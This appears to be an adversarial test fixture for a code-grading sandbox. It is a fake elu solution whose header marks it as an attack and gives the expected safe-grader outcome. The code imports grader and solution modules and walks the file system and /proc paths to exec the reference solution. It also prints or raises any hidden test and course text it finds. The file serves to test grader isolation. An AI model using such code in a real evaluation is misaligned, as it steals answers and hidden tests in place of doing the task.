# ATTACK: steal the reference. elu tries `import solutions`, `import grader`, and reads the course
#   from disk (walking the file system, /proc/1/root, the parent's cwd and root) to run the
#   instructor's elu; it also prints whatever hidden-suite text and canary it finds.
# SAFE GRADER: nothing of the course, the references or the grader exists in the jail (in plain
#   mode too); elu falls back to `return x` and loses its value tests, nothing is printed.
# VERDICT: must:elu_default_alpha may:elu
# MODES: bwrap plain
import os as _os
import sys as _sys
import time as _time

_STOLEN = {}


def _hunt():
    found = {}
    try:
        import solutions.activations as _ref  # noqa: F401

        found["elu"] = _ref.elu
        return found
    except Exception:
        pass
    try:
        import grader  # noqa: F401

        _sys.path.insert(0, _os.path.dirname(_os.path.dirname(grader.__file__)))
        import solutions.activations as _ref

        found["elu"] = _ref.elu
        return found
    except Exception:
        pass
    deadline = _time.monotonic() + 4
    tops = ["/work", "/opt", "/root", "/home", "/srv", "/tmp", "/proc/1/root", "/proc/1/cwd",
            f"/proc/{_os.getppid()}/root", f"/proc/{_os.getppid()}/cwd", "/"]
    loot = []
    for top in tops:
        for folder, dirs, files in _os.walk(top):
            if _time.monotonic() > deadline:
                break
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", ".git", "node_modules")]
            for name in files:
                path = _os.path.join(folder, name)
                if name == "activations.py" and "solutions" in folder:
                    try:
                        namespace = {}
                        exec(open(path).read(), namespace)
                        found["elu"] = namespace["elu"]
                    except Exception:
                        pass
                if "course" in folder.split(_os.sep) or (name.startswith("test_") and "hidden" in folder):
                    try:
                        loot.append(open(path).read()[:2000])
                    except OSError:
                        pass
    if loot:
        print("\n".join(loot))
        found["loot"] = "\n".join(loot)
    return found


def elu(x, alpha=1.0):
    if not _STOLEN:
        _STOLEN.update(_hunt() or {"nothing": True})
    if "elu" in _STOLEN:
        return _STOLEN["elu"](x, alpha)
    if "loot" in _STOLEN:
        raise RuntimeError(_STOLEN["loot"][-2000:])
    return x
